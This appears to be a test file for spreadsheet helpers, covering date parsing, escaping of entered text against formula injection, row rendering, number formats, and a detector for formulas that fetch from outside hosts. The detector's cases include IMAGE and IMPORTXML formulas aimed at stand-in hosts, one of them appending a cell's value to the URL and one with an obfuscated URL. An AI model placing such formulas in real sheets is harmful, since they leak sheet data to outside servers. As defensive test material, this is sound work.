import { describe, expect, it } from "vitest";
import { fetchedHosts } from "../../../src/content/fetching-formulas.ts";
import { enteredRows, isoSerial, renderRows } from "../../../src/content/sheet-cells.ts";
import { hexOf, numberFormatType, rgb } from "../../../src/content/sheet-format.ts";

describe("isoSerial", () => {
  it.each([
    ["1900-01-01", 2, false],
    ["2026-11-24", 46350, false],
    ["2026-11-24 12:00", 46350.5, true],
    ["2026-11-24 6:00:00", 46350.25, true],
  ])("%s is %d", (text, serial, timed) => {
    expect(isoSerial(text)).toEqual({ serial, timed });
  });

  it.each([
    "2026-02-30",
    "2026-13-01",
    "1899-12-31",
    "2026-11-24T12:00",
    "2026-11-24 24:00",
    "2026-11-4",
    " 2026-11-24",
  ])("leaves %s as text", (text) => {
    expect(isoSerial(text)).toBeUndefined();
  });
});

describe("enteredRows", () => {
  it("has nothing parsed where nothing needs it", () => {
    const rows = [["=1", "007", 5, true, ""]];
    expect(enteredRows([rows], false)).toEqual({ valueInputOption: "RAW", groups: [rows] });
  });

  it("keeps other text from being parsed where dates are", () => {
    expect(enteredRows([[["2026-11-24", "=1", "007", "'x", "", 5]]], false)).toEqual({
      valueInputOption: "USER_ENTERED",
      groups: [[["2026-11-24", "'=1", "'007", "''x", "", 5]]],
    });
  });

  it("lets formulas calculate only when asked", () => {
    expect(enteredRows([[["=1", "+1", "text"]], [["=A1"]]], true)).toEqual({
      valueInputOption: "USER_ENTERED",
      groups: [[["=1", "'+1", "'text"]], [["=A1"]]],
    });
  });
});

describe("renderRows", () => {
  const from = { firstRow: 3, firstColumn: 1, must: true };

  it("numbers rows and names columns", () => {
    const { text } = renderRows([["a|b", 1], [], ['"', true]], { ...from, limit: 1000 });
    expect(text).toBe('columns B C\n3 ["a|b",1]\n4 []\n5 ["\\"",true]');
  });

  it("stays within its limit, whatever the rows", () => {
    const rows = [Array.from({ length: 5000 }, (_, index) => index * 1000), ["x".repeat(5000)]];
    for (const limit of [14_000, 20_000]) {
      const { text, shown, cut } = renderRows(rows.slice(1), { ...from, limit: 1000 });
      expect([shown, cut, text.length <= 1000]).toEqual([1, true, true]);
      const wide = renderRows([rows[0] ?? []], { ...from, limit: limit + 20_000 });
      expect(wide.shown).toBe(1);
    }
    expect(renderRows([["x".repeat(50)]], { ...from, limit: 40, must: false })).toMatchObject({ shown: 0 });
  });
});

describe("formats", () => {
  it.each([
    ["0.00%", "PERCENT"],
    ["@", "TEXT"],
    ["#,##0.00", "NUMBER"],
    ["€#,##0.00", "CURRENCY"],
    ['"$"#,##0', "CURRENCY"],
    ["0.00E+00", "SCIENTIFIC"],
    ["yyyy-mm-dd", "DATE"],
    ["mmm d", "DATE"],
    ["h:mm", "TIME"],
    ["yyyy-mm-dd hh:mm:ss", "DATE_TIME"],
    ['0 "days"', "NUMBER"],
  ])("%s is %s", (pattern, type) => {
    expect(numberFormatType(pattern)).toBe(type);
  });

  it("gives colours both ways", () => {
    expect(hexOf(rgb("#ff8800"))).toBe("#ff8800");
    expect(hexOf({ red: 1 })).toBe("#ff0000");
  });
});

describe("fetchedHosts", () => {
  it.each([
    ['=IMPORTXML("https://a.example/x", "//b")', ["a.example"]],
    ['=if(1, image("http://B.example?"&A1))', ["b.example"]],
    ['=IMAGE("htt"&"ps://c.example")', ["anyone"]],
    ['=HYPERLINK("https://a.example")', []],
    ["IMAGE(A1)", []],
    ["=MYIMAGE(A1)", []],
  ])("%s reaches %j", (formula, hosts) => {
    expect(fetchedHosts([formula])).toEqual(hosts);
  });
});
